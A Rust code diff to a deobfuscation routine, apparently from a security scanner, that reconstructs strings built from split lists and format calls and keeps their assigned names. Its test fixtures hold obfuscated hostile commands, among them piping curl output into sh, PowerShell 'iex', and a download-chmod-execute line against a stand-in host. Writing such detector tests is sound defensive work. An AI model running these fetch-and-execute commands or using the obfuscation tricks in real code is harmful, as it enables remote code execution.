@@ -184,7 +184,7 @@ pub fn joined_lists(text: &str) -> Option<JoinedLists> {
         counted = at;
         line
     };
-    let placed: Vec<(usize, usize, String, Vec<String>)> = built
+    let placed: Vec<(usize, usize, String, String, Vec<String>)> = built
         .into_iter()
         .map(|b| {
             let (first, last) = (line_of(b.open), line_of(b.close));
@@ -197,11 +197,27 @@ pub fn joined_lists(text: &str) -> Option<JoinedLists> {
                 cut -= 1;
             }
             let tail = &tail[..cut];
-            (first, last, tail.to_owned(), b.readings)
+            // What stands before it on its opening line, cut as short
+            // (`$p = $wc.(` before `"Download" + "String"`): the name the
+            // built string is given, or the call it is handed to, reads
+            // with it.
+            let head = &text[..b.open];
+            let head = &head[head.rfind('\n').map_or(0, |n| n + 1)..];
+            let mut from = head.len().saturating_sub(MAX_TAIL);
+            while !head.is_char_boundary(from) {
+                from += 1;
+            }
+            // Kept apart from a name it would run into (`git(` opens a list
+            // read as `git push ...`: `gitgit push` would hide the command).
+            let mut head = head[from..].to_owned();
+            if head.ends_with(|c: char| c.is_alphanumeric() || c == '_' || c == '.') {
+                head.push(' ');
+            }
+            (first, last, head, tail.to_owned(), b.readings)
         })
         .collect();
     let mut placed_on: Option<usize> = None;
-    for (first, last, tail, these) in placed {
+    for (first, last, head, tail, these) in placed {
         // A second construct on the line of the one before is read after
         // it, not over it, while the line is short enough.
         let again = placed_on == Some(first);
@@ -227,7 +243,7 @@ pub fn joined_lists(text: &str) -> Option<JoinedLists> {
             lines[first].push('\t');
             lines[first].push_str(&on_first.join("\t"));
         } else {
-            lines[first] = on_first.join("\t");
+            lines[first] = format!("{head}{}", on_first.join("\t"));
         }
         // What follows the construct on its closing line reads after it
         // (`''.join([...]) + ' | sh'`).
@@ -939,12 +955,14 @@ mod tests {
             "p = [\n 'ab',\n \"cd\",\n `ef`\n];\nx = p.join('').split('').reverse().join('');\n";
         assert_eq!(
             joined_lists(js).map(|j| j.text).as_deref(),
-            Some("abcdef ;\nfedcba\nefcdab\n\n];\nx = p.join('').split('').reverse().join('');\n")
+            Some(
+                "p = abcdef ;\nfedcba\nefcdab\n\n];\nx = p.join('').split('').reverse().join('');\n"
+            )
         );
         let py = "p = [\n 'ab',\n 'cd',\n 'ef',\n]\nx = ''.join(p)\n";
         assert_eq!(
             joined_lists(py).map(|j| j.text).as_deref(),
-            Some("abcdef\n\n\n\n]\nx = ''.join(p)\n")
+            Some("p = abcdef\n\n\n\n]\nx = ''.join(p)\n")
         );
     }
 
@@ -953,27 +971,27 @@ mod tests {
         let py = "cmd = ''.join(['cu', 'rl', ' -s'])\n";
         assert_eq!(
             joined_lists(py).map(|j| j.text).as_deref(),
-            Some("curl -s )\n")
+            Some("cmd = ''.join(curl -s )\n")
         );
         let rb = "p = [\n 'ab',\n 'cd', 'ef']\nsystem(p.reverse.join)\n";
         assert_eq!(
             joined_lists(rb).map(|j| j.text).as_deref(),
-            Some("abcdef\tefcdab\nfedcba\n]\nsystem(p.reverse.join)\n")
+            Some("p = abcdef\tefcdab\nfedcba\n]\nsystem(p.reverse.join)\n")
         );
         let go = "p := []string{\"ab\", \"cd\", \"ef\",}\ns := strings.Join(p, \"\")\n";
         assert_eq!(
             joined_lists(go).map(|j| j.text).as_deref(),
-            Some("abcdef\ns := strings.Join(p, \"\")\n")
+            Some("p := []string abcdef\ns := strings.Join(p, \"\")\n")
         );
         let ps = "$p = @('ab','cd','ef')\niex (-join $p)\n";
         assert_eq!(
             joined_lists(ps).map(|j| j.text).as_deref(),
-            Some("abcdef\niex (-join $p)\n")
+            Some("$p = @abcdef\niex (-join $p)\n")
         );
         let php = "$p = array('ab', \"cd\", 'ef'); echo strrev(implode('', $p));\n";
         assert_eq!(
             joined_lists(php).map(|j| j.text).as_deref(),
-            Some("abcdef\tfedcba\tefcdab ; echo strrev(implode('', $p));\n")
+            Some("$p = array abcdef\tfedcba\tefcdab ; echo strrev(implode('', $p));\n")
         );
     }
 
@@ -1006,18 +1024,18 @@ mod tests {
         assert_eq!(
             joined_lists(rs).map(|j| j.text).as_deref(),
             Some(
-                "curl -fsSL https://x.example/shim -o $ARG1 && chmod +x $ARG1 && $ARG1 ;\n\n\n\n\n\n\n);\n"
+                "let fetch = curl -fsSL https://x.example/shim -o $ARG1 && chmod +x $ARG1 && $ARG1 ;\n\n\n\n\n\n\n);\n"
             )
         );
         let py = "cmd = '{0} {1} | {2}'.format('curl', url, 'sh')\nrun = \"%s -c %s\" % (\"bash\", cmd)\n";
         assert_eq!(
             joined_lists(py).map(|j| j.text).as_deref(),
-            Some("curl $ARG1 | sh\nbash -c $ARG1\n")
+            Some("cmd = curl $ARG1 | sh\nrun = bash -c $ARG1\n")
         );
         let go = "u := fmt.Sprintf(\"%s://%s/%s\", \"https\", host, \"i.sh\")\n";
         assert_eq!(
             joined_lists(go).map(|j| j.text).as_deref(),
-            Some("https://$ARG1/i.sh\n")
+            Some("u := fmt. https://$ARG1/i.sh\n")
         );
         // No placeholder, a missing argument, an f-string: not a format.
         assert_eq!(joined_lists("x = format!(\"plain\", a)\n"), None);
@@ -1068,7 +1086,7 @@ mod tests {
         // Every list is read joined; the first few are decoded.
         assert_eq!(
             out.as_ref()
-                .map(|j| j.text.lines().filter(|l| *l == "abc").count()),
+                .map(|j| j.text.lines().filter(|l| l.ends_with(" = abc")).count()),
             Some(MAX_LISTS + 4)
         );
         assert_eq!(out.map(|j| j.readings.len()), Some(MAX_LISTS + 4));
